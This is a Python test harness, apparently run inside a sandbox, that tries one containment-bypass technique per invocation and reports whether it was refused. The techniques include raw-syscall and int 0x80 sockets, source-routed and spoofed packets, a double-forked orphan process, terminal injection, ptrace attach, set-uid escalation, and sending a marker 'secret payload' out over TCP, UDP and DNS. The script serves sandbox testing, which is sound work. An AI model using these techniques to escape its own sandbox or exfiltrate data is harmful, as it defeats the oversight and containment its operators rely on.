"""What runs inside the bottle: `python3 -I bypass_attempts.py NAME [ARG]...` tries one technique and prints one word.

refused: the kernel or a service said no, or nothing came back. reached: an answer, or a door that opened. Stdlib only.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import mmap
import os
import select
import signal
import socket
import ssl
import struct
import sys
import termios
from collections.abc import Callable
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
SECRET = b"agentmon-secret-payload"
WAIT_S = 0.4
MSG_FASTOPEN = 0x20000000
_TABLE: dict[str, Callable[..., object]] = {}


class Refused(Exception):
    """No, in whatever words."""


def attempt(function: Callable[..., object]) -> Callable[..., object]:
    _TABLE[function.__name__] = function
    return function


def family(host: str) -> int:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def sockaddr(host: str, port: int) -> bytes:
    if family(host) == socket.AF_INET:
        return struct.pack("<H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
    packed = socket.inet_pton(socket.AF_INET6, host)
    return struct.pack("<H", socket.AF_INET6) + struct.pack("!HI", port, 0) + packed + bytes(4)


def checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def heard(sock: socket.socket) -> None:
    """Something came back within a moment, else Refused."""
    if not select.select([sock], [], [], WAIT_S)[0] or not sock.recv(4096):
        raise Refused


# ── TCP ──


def talk(sock: socket.socket) -> None:
    sock.settimeout(WAIT_S)
    sock.sendall(SECRET)
    heard(sock)


@attempt
def tcp(host: str, port: str) -> None:
    with socket.create_connection((host, int(port)), WAIT_S) as sock:
        talk(sock)


@attempt
def tcp_ctypes(host: str, port: str) -> None:
    address = sockaddr(host, int(port))
    with socket.socket(family(host), socket.SOCK_STREAM) as sock:
        checked(LIBC.connect(sock.fileno(), address, len(address)))
        talk(sock)


@attempt
def tcp_syscall(host: str, port: str) -> None:
    address = sockaddr(host, int(port))
    fd = checked(LIBC.syscall(41, family(host), socket.SOCK_STREAM, 0))
    checked(LIBC.syscall(42, fd, address, len(address)))
    with socket.socket(fileno=fd) as sock:
        talk(sock)


@attempt
def tcp_fast_open(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_STREAM) as sock:
        sock.sendto(SECRET, MSG_FASTOPEN, (host, int(port)))
        heard(sock)


@attempt
def tcp_multipath(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_STREAM, 262) as sock:
        sock.settimeout(WAIT_S)
        sock.connect((host, int(port)))
        talk(sock)


@attempt
def tcp_mapped(host: str, port: str) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        sock.connect((f"::ffff:{host}", int(port)))
        talk(sock)


@attempt
def tcp_after_disconnect(good: str, good_port: str, host: str, port: str) -> None:
    """A socket that was allowed somewhere, dissolved, and connected elsewhere."""
    with socket.socket(family(good), socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        sock.connect((good, int(good_port)))
        unspec = bytes(16)
        checked(LIBC.connect(sock.fileno(), unspec, len(unspec)))
        sock.connect((host, int(port)))
        talk(sock)


@attempt
def tcp_from_orphan(host: str, port: str) -> None:
    """From a grandchild in a session of its own."""
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                tcp(host, port)
                os.write(write_end, b"reached")
            finally:
                os._exit(0)
        os._exit(0)
    os.close(write_end)
    if os.read(read_end, 20) != b"reached":
        raise Refused


# ── UDP and others ──


@attempt
def udp(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def udp_connected(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        sock.connect((host, int(port)))
        sock.send(SECRET)
        heard(sock)


@attempt
def udp_sendmsg(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        sock.sendmsg([SECRET], [], 0, (host, int(port)))
        heard(sock)


@attempt
def udp_sendmmsg(host: str, port: str) -> None:
    name = ctypes.create_string_buffer(sockaddr(host, int(port)), 28)
    data = ctypes.create_string_buffer(SECRET)
    iovec = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(SECRET))
    length = len(sockaddr(host, int(port)))
    header = struct.pack("QIxxxxQQQQIxxxxIxxxx", ctypes.addressof(name), length, ctypes.addressof(iovec), 1, 0, 0, 0, 0)
    buffer = ctypes.create_string_buffer(header, len(header))
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        checked(LIBC.sendmmsg(sock.fileno(), buffer, 1, 0))
        heard(sock)


@attempt
def udp_elsewhere(good: str, good_port: str, host: str, port: str) -> None:
    """Connected to where it may, sent to where it may not."""
    with socket.socket(family(good), socket.SOCK_DGRAM) as sock:
        sock.connect((good, int(good_port)))
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def udp_source_routed(good: str, good_port: str, hop: str) -> None:
    """Connected to where it may, by way of where it may not (IPv4 loose source route; no privilege needed)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((good, int(good_port)))
        option = bytes((1, 131, 7, 4)) + socket.inet_aton(hop)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        sock.send(SECRET)
        heard(sock)


@attempt
def tcp_source_routed(good: str, good_port: str, hop: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        option = bytes((1, 131, 7, 4)) + socket.inet_aton(hop)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        sock.connect((good, int(good_port)))
        talk(sock)


@attempt
def udp6_segment_routed(good: str, good_port: str, hop: str) -> None:
    """The same by an IPv6 segment routing header (RFC 8754), which needs no privilege either."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.connect((good, int(good_port)))
        segments = [socket.inet_pton(socket.AF_INET6, a) for a in (good, hop)]
        header = bytes((0, 2 * len(segments), 4, 1, 1, 0, 0, 0)) + b"".join(segments)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        sock.send(SECRET)
        heard(sock)


@attempt
def udp6_spoofed(source: str, host: str, port: str) -> None:
    """IPV6_FREEBIND (78) lets anyone bind any source address."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, 78, 1)
        sock.bind((source, 0))
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def udp4_spoofed(source: str, host: str, port: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
        sock.bind((source, 0))
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def opens(domain: str, kind: str, protocol: str) -> None:
    """socket() alone; nothing is sent."""
    socket.socket(int(domain), int(kind), int(protocol)).close()


@attempt
def opens_by_syscall(domain: str, kind: str, protocol: str) -> None:
    """With high bits in the family, which the kernel ignores."""
    wide = ctypes.c_long(int(domain) | 1 << 32)
    os.close(checked(LIBC.syscall(ctypes.c_long(41), wide, ctypes.c_long(int(kind)), ctypes.c_long(int(protocol)))))


@attempt
def pairs(domain: str) -> None:
    socket.socketpair(int(domain), socket.SOCK_DGRAM)


# ── system calls ──


def in_child(run: Callable[[], object]) -> None:
    """In a process that may be killed for it."""
    pid = os.fork()
    if pid == 0:
        try:
            run()
        except (OSError, Refused):
            os._exit(1)
        os._exit(0)
    status = os.waitpid(pid, 0)[1]
    if status != 0:
        raise Refused


@attempt
def system_call(number: str, *args: str) -> None:
    values = [ctypes.c_long(int(a, 0)) for a in args]
    in_child(lambda: checked(LIBC.syscall(ctypes.c_long(int(number, 0)), *values)))


@attempt
def int80_socket() -> None:
    """socket(AF_INET, SOCK_DGRAM, 0) by the 32-bit entry: mov eax,359; mov ebx,2; mov ecx,2; xor edx,edx; int 0x80."""
    code = b"\x53\xb8\x67\x01\x00\x00\xbb\x02\x00\x00\x00\xb9\x02\x00\x00\x00\x31\xd2\xcd\x80\x5b\xc3"

    def run() -> None:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        if call() < 0:
            raise Refused

    in_child(run)


@attempt
def push_into_terminal() -> None:
    for fd in (0, 1, 2):
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
            return
        except OSError:
            continue
    raise Refused


@attempt
def traces(pid: str) -> None:
    checked(LIBC.ptrace(16, int(pid), 0, 0))  # PTRACE_ATTACH


@attempt
def signals(pid: str) -> None:
    os.kill(int(pid), signal.SIGCONT)


# ── files ──


@attempt
def reads(path: str) -> None:
    with open(path, "rb", buffering=0) as file:
        file.read(1)


@attempt
def lists(path: str) -> None:
    if not os.listdir(path):
        raise Refused


@attempt
def writes(path: str) -> None:
    os.close(os.open(path, os.O_WRONLY))


@attempt
def creates(path: str) -> None:
    Path(path).write_text("x")


@attempt
def escalates(program: str, *args: str) -> None:
    """A set-uid program that gives uid 0."""
    if os.popen(" ".join((program, *args)) + " 2>/dev/null </dev/null").read().strip() != "0":
        raise Refused


@attempt
def unix_stream(path: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        sock.connect("\0" + path[1:] if path.startswith("@") else path)
        talk(sock)


# ── names ──


def question(name: str, kind: int) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x6D61, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def answers(reply: bytes) -> int:
    return int.from_bytes(reply[6:8], "big")


@attempt
def dns(server: str, name: str, kind: str) -> None:
    """reached: the reply has an answer section."""
    with socket.socket(family(server), socket.SOCK_DGRAM) as sock:
        sock.settimeout(3.0)
        sock.sendto(question(name, int(kind)), (server, 53))
        if answers(sock.recv(4096)) == 0:
            raise Refused


@attempt
def dns_tcp(server: str, name: str, kind: str) -> None:
    wire = question(name, int(kind))
    with socket.create_connection((server, 53), 3.0) as sock:
        sock.sendall(struct.pack("!H", len(wire)) + wire)
        if answers(sock.recv(4096)[2:]) == 0:
            raise Refused


@attempt
def listens(port: str) -> None:
    """Wait for a visitor on every address."""
    with socket.create_server(("::", int(port)), family=socket.AF_INET6, dualstack_ipv6=True) as server:
        print("listening", flush=True)
        server.settimeout(8.0)
        server.accept()[0].close()


# ── services ──


@attempt
def serves(port: str) -> None:
    """Say hello to whoever comes, on every address, until killed."""
    with socket.create_server(("::", int(port)), family=socket.AF_INET6, dualstack_ipv6=True) as server:
        while True:
            server.accept()[0].sendall(b"hello")


@attempt
def request(address: str, port: str, sni: str, *lines: str) -> str:
    """Raw lines over TCP, or over TLS where `sni` is not "-" ("none": without one); the status of every answer."""
    with socket.create_connection((address, int(port)), 3.0) as plain:
        sock: socket.socket = plain
        if sni != "-":
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            sock = context.wrap_socket(plain, server_hostname=None if sni == "none" else sni)
        sock.settimeout(1.5)
        sock.sendall("\r\n".join(lines).encode().decode("unicode_escape").encode("latin-1") + b"\r\n\r\n")
        data = b""
        while b"\r\n\r\n" not in data and (more := sock.recv(1 << 16)):
            data += more
        if not data:
            raise Refused
        return " ".join(line.split()[1].decode() for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.1 "))


@attempt
def keeps_talking(*targets: str) -> None:
    """Open flows to "tcp=HOST=PORT" and "udp=HOST=PORT", then report each round which of them still answer."""
    socks = []
    for kind, host, port in (target.split("=") for target in targets):
        sock = socket.socket(family(host), socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
        sock.settimeout(0.2)
        sock.connect((host, int(port)))
        socks.append((f"{kind}{'6' if ':' in host else '4'}", sock))
    with open("/tmp/flows", "w") as out:
        while True:
            alive = [name for name, sock in socks if _answers(sock)]
            out.seek(0)
            out.truncate()
            out.write(" ".join(alive) + "\n")
            out.flush()
            select.select([], [], [], 0.05)


def _answers(sock: socket.socket) -> bool:
    try:
        sock.send(b"still")
        return bool(sock.recv(64))
    except OSError:
        return False


def main(argv: list[str]) -> str:
    try:
        return str(_TABLE[argv[1]](*argv[2:]) or "reached")
    except Refused:
        return "refused silence"
    except OSError as e:
        return f"refused {errno.errorcode.get(e.errno or 0, type(e).__name__)}"


if __name__ == "__main__":
    print(main(sys.argv), flush=True)
